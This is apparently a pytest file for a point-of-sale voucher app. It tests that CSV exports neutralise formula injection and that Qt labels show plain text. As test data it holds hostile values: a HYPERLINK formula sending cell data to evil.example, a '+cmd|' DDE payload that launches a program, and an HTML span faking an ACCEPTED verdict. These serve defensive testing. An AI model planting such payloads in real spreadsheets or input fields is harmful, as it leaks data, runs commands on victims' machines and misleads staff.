"""Finding 6, injection: data never runs as a formula in a CSV, nor renders as markup in a Qt label.

Every CSV the project writes (the backend's day report, the booklet's
billing, the till's report export) is read back with the csv module: no cell
may begin with = + - @, a tab or a CR (each is prefixed with an apostrophe,
pos_app.core.csv_cells). Every QLabel of the real window, and of the views
it opens, shows plain text unless it is on the allowlist below.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from pos_app.core import report
from pos_app.core.csv_cells import FORMULA_STARTS, safe_cell
from pos_app.core.domain import Method
from pos_app.store.report import day_csv
from report_fixtures import World, local

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")'
HOSTILES = (HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
D = date(2025, 3, 14)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(text: str) -> list[list[str]]:
    """Every cell of the CSV `text` is inert; its rows."""
    rows = read_back(text)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    return rows


def test_the_rule_neutralises_each_formula_start_and_leaves_the_rest():
    for text in HOSTILES:
        assert safe_cell(text) == "'" + text
    for text in ("Caja 1", "CAFE50", "", "'already", "a=b", "1.5"):
        assert safe_cell(text) == text
    assert safe_cell(-5) == -5 and safe_cell(None) is None  # numbers stay numbers


def test_every_text_cell_of_the_day_csv_is_neutralised():
    """Before: only till, staff name, voucher title and code were escaped; staff_id, voucher_id, reason,
    kind, method, key went out as the till sent them."""
    at = local(D, 10)
    rows = [report.Row(key=HOSTILES[i % len(HOSTILES)] + str(i), at=at + i, status=status, decided=HOSTILE,
                       method=HOSTILE, till=HOSTILE, staff_id=HOSTILE, reason=HOSTILE, kind=HOSTILE,
                       voucher_id=HOSTILE, code=HOSTILE, jti=HOSTILE)
            for i, status in enumerate(("refused", "accepted", "conflict"))]
    text = report.to_csv(rows, first=D, last=D, tz_name="America/Asuncion", vouchers={},
                         staff={HOSTILE: "@Ana"}, language="es")
    lines = assert_no_formula(text)
    header, body = lines[0], lines[1:]
    assert len(body) == 3
    for line in body:
        cells = dict(zip(header, line))
        for name in ("till", "staff_id", "voucher_id", "code", "reason", "kind", "method", "decided"):
            assert cells[name] == "'" + HOSTILE, name
        assert cells["staff"] == "'@Ana"


@pytest.fixture
def world(tmp_path, backend_database):
    world = World(tmp_path, local(D, 8), backend_database)
    yield world
    for till in world.tills:
        till.close()
    world.http.close()
    world.backend.close()


def test_hostile_names_and_ids_reach_the_backend_and_till_csvs_inert(world):
    admin = {"Authorization": f"Bearer {world.admin_token}"}
    till = world.till(HOSTILE)  # a till's name is typed at enrollment
    staff = world.backend.create_staff(world.info["retailer_id"], "@Ana", "cashier", "2468", world.info["store_id"])
    world.clock.t = local(D, 9)
    till.sync()
    claim = world.claim(world.coffee, "cust-1")
    till.redeem(local(D, 10), claim["token"], Method.CAMERA, staff=staff["id"])
    till.redeem(local(D, 10, 5), HOSTILE, Method.TYPED, staff=HOSTILE, online=False)  # refused: garbage
    till.redeem(local(D, 10, 10), claim["token"], Method.CAMERA, staff=staff["id"], online=False)  # already used
    world.clock.t = local(D, 11)
    till.sync()

    till_csv = assert_no_formula(day_csv(till.store, D))
    cells = [dict(zip(till_csv[0], line)) for line in till_csv[1:]]
    assert {c["till"] for c in cells} == {"'" + HOSTILE}
    assert "'" + HOSTILE in {c["staff_id"] for c in cells}
    assert "'@Ana" in {c["staff"] for c in cells}

    answer = world.http.get("/reports/daily", headers=admin,
                            params={"date": D.isoformat(), "store": world.info["store_id"], "format": "csv"})
    assert answer.status_code == 200, answer.text
    backend_csv = assert_no_formula(answer.text)
    cells = [dict(zip(backend_csv[0], line)) for line in backend_csv[1:]]
    assert "'" + HOSTILE in {c["till"] for c in cells}
    assert "'@Ana" in {c["staff"] for c in cells}


def test_the_booklet_billing_csv_is_inert(world):
    admin = {"Authorization": f"Bearer {world.admin_token}"}
    made = world.http.post("/booklets", headers=admin, json={"month": "2025-04", "placements": [
        {"size": "single", "content": "ad", "advertiser": text, "texts": {"es": {"title": "Hola"}}}
        for text in HOSTILES[:4]]})
    assert made.status_code == 201, made.text
    assert world.http.post(f"/booklets/{made.json()['id']}/render", headers=admin, json={}).status_code == 200
    billing = world.http.get(f"/booklets/{made.json()['id']}/billing.csv", headers=admin)
    lines = assert_no_formula(billing.text)
    advertisers = {dict(zip(lines[0], line))["advertiser"] for line in lines[1:]}
    assert {"'" + text for text in HOSTILES[:4]} <= advertisers


# --- Qt labels ------------------------------------------------------------------------------------

# QLabels that show rich text we author ourselves (their data html-escaped): none today.
RICH_TEXT_ALLOWED: set[str] = set()
ACCEPTED_LOOKALIKE = '<span style="color:#0a0;font-size:40px"><b>✓ ACCEPTED</b></span>'


def rich_text_labels(widgets) -> list[str]:
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QLabel

    found = []
    for widget in widgets:
        for label in [widget, *widget.findChildren(QLabel)]:
            if not isinstance(label, QLabel) or label.objectName() in RICH_TEXT_ALLOWED:
                continue
            if label.textFormat() != Qt.TextFormat.PlainText:
                found.append(f"{type(label.window()).__name__}: {label.objectName() or '?'} ({label.text()[:40]!r})")
    return found


def test_every_label_of_the_window_and_its_views_is_plain_text(qtbot, make_window, till_env):
    from PySide6.QtWidgets import QLabel

    from pos_app.gui.report import models
    from pos_app.gui.settings_dialog import SettingsDialog

    window = make_window(role="admin")
    with qtbot.waitSignal(window.verdict_shown, timeout=8000):  # an accepted redemption, to open a void on
        window.submit(till_env.claim()["token"], Method.CAMERA)
    report = window.open_report()
    qtbot.waitUntil(lambda: report.report is not None and bool(report.attempts.records), timeout=10000)
    assert report.select_attempt(report.attempts.records[0][models.KEY])
    void = report.open_void_dialog()
    assert void is not None
    window.open_sync_panel()
    booklet = window.open_booklet()
    qtbot.waitUntil(lambda: booklet.isEnabled(), timeout=10000)
    settings = SettingsDialog(window.settings, [], window)
    settings.show()
    opened = [window, report, void, window.sync_panel, booklet, settings]
    labels = sum(len(widget.findChildren(QLabel)) for widget in opened)
    assert labels > 40  # the scan saw the views' labels, not an empty tree
    assert rich_text_labels(opened) == []
    for dialog in (settings, booklet, void, report):
        dialog.close()


def test_a_till_named_like_a_verdict_shows_as_text_in_another_tills_refusal(qtbot, make_window, till_env):
    """Finding 6: the till name in "already redeemed at …" rendered as rich text, a big green ACCEPTED."""
    from PySide6.QtCore import Qt

    from pos_app.core.domain import Reason

    api = till_env.api
    other = api.enroll(ACCEPTED_LOOKALIKE)
    claim = till_env.claim()
    assert api.redeem(other, claim["token"]).status_code == 201  # the hostile till redeems first

    window = make_window()
    with qtbot.waitSignal(window.verdict_shown, timeout=8000) as blocker:
        window.submit(claim["token"], Method.CAMERA)
    outcome = blocker.args[0]
    assert outcome.verdict.reason == Reason.ALREADY_REDEEMED and window.panel.state == "refused"
    details = window.panel.details
    assert "<span" in details.text() and "ACCEPTED" in details.text()
    assert details.textFormat() == Qt.TextFormat.PlainText
    assert rich_text_labels([window.panel]) == []
